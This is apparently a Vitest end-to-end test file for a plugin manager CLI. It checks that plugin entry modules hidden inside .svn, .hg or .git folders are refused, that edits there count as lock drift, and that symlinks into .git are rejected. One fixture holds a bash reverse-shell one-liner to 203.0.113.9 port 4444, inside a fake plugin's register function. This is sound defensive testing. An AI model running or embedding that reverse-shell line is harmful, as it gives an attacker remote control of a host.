import { existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli, STACK_RE } from "../support/cli.js";
import { bundledWithHelloWorld, Scratch, writePlugin, writeText } from "../support/home.js";
import { hermes, newHome, Repo } from "../install/helpers.js";

/**
 * Version-control folders inside a plugin: whatever can be loaded is scanned and hashed, and an
 * entry module inside .git/.hg/.svn is refused (a `.svn/payload.js` used to scan SAFE, install and run).
 */
const s = new Scratch("hermes-e2e-vcs-");
afterAll(() => s.cleanup());

const SHELL =
  `import { execSync } from "node:child_process";\nexport function register(ctx) { execSync("bash -i >& ` +
  `/dev/tcp/203.0.113.9/4444 0>&1"); }\n`;

function home() {
  const h = s.dir("home");
  const bundled = s.dir("bundled");
  const cli = (...args: string[]) => runCli(["--home", h, ...args], { env: { HERMES_BUNDLED_PLUGINS: bundled } });
  return { h, cli };
}

describe("plugins with .svn/.hg/.git folders", () => {
  it("a repo whose main: is .svn/payload.js (a reverse shell) is not SAFE and does not install", async () => {
    const repos = s.dir("repos");
    const repo = new Repo(repos, "acme/svnpayload", {
      "plugin.yaml": "name: svnpayload\nversion: 1.0.0\nmain: .svn/payload.js\n",
      ".svn/payload.js": SHELL,
    });
    const scan = await runCli(["plugins", "scan", repo.work]);
    expect(scan.code, scan.stdout).toBe(1);
    expect(scan.stdout).toContain(".svn/payload.js");
    const h = newHome(s, "install");
    const r = await hermes({ s, bundled: bundledWithHelloWorld(s) }, h, ["install", repo.url, "--enable"]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(STACK_RE);
    expect(existsSync(join(h.plugins, "svnpayload"))).toBe(false);
  });

  it(
    "a hand-placed plugin with main: inside .svn/.hg/.git is refused with E_MANIFEST_ENTRY_IN_VCS and never " + "runs",
    async () => {
      const t = home();
      const out = s.dir("out");
      for (const [name, dir] of [
        ["s", ".svn"],
        ["m", ".hg"],
        ["g", ".git"],
      ] as const) {
        const p = join(t.h, "plugins", name);
        writePlugin(p, { manifest: `name: ${name}\nversion: '1'\nmain: ${dir}/payload.js\n`, entry: false });
        writeText(
          join(p, dir, "payload.js"),
          `import { writeFileSync } from "node:fs";\nexport function register() { ` +
            `writeFileSync(${JSON.stringify(join(out, name))}, "ran"); }\n`,
        );
      }
      writeText(join(t.h, "config.yaml"), "plugins:\n  enabled: [s, m, g]\n");
      const v = await runCli(["plugins", "validate", join(t.h, "plugins", "s")]);
      expect(v.code).toBe(1);
      expect(v.stdout + v.stderr).toContain("E_MANIFEST_ENTRY_IN_VCS");
      const c = await t.cli("compile");
      expect(c.stderr).toContain("E_MANIFEST_ENTRY_IN_VCS");
      const chain = await t.cli("plugins", "chain");
      expect(chain.code, chain.stderr).toBe(0);
      for (const name of ["s", "m", "g"]) expect(existsSync(join(out, name)), name).toBe(false);
    },
  );

  it("files under .hg/ and .svn/ are hashed: an edit there is drift; a link into .git/ is refused", async () => {
    const t = home();
    const p = join(t.h, "plugins", "hgp");
    writePlugin(p, { manifest: "name: hgp\nversion: '1'\n", entry: false });
    writeFileSync(join(p, "index.js"), `import "./.hg/impl.js";\nexport function register() {}\n`);
    writeText(join(p, ".hg", "impl.js"), "export const x = 1;\n");
    writeText(join(t.h, "config.yaml"), "plugins:\n  enabled: [hgp]\n");
    const c = await t.cli("compile");
    expect(c.code, c.stderr).toBe(0);
    expect((await t.cli("lock", "verify")).code).toBe(0);
    writeFileSync(join(p, ".hg", "impl.js"), "export const x = 2; // changed\n");
    const v = await t.cli("lock", "verify");
    expect(v.code).toBe(1);
    expect(v.stderr).toMatch(/E_LOCK_DRIFT .*plugin hgp changed: changed: \.hg\/impl\.js/);
    // An entry that links into .git (never hashed) is refused rather than trusted.
    const u = home();
    const q = join(u.h, "plugins", "lnk");
    writePlugin(q, { manifest: "name: lnk\nversion: '1'\n", entry: false });
    mkdirSync(join(q, ".git"));
    writeFileSync(join(q, ".git", "payload.js"), "export function register() {}\n");
    symlinkSync(".git/payload.js", join(q, "index.js"));
    writeText(join(u.h, "config.yaml"), "plugins:\n  enabled: [lnk]\n");
    const l = await u.cli("compile");
    expect(l.stderr).toMatch(/E_COMPILE_LINK_ESCAPE .*index\.js is a symlink into \.git/);
    expect(l.stderr).not.toMatch(STACK_RE);
  });
});
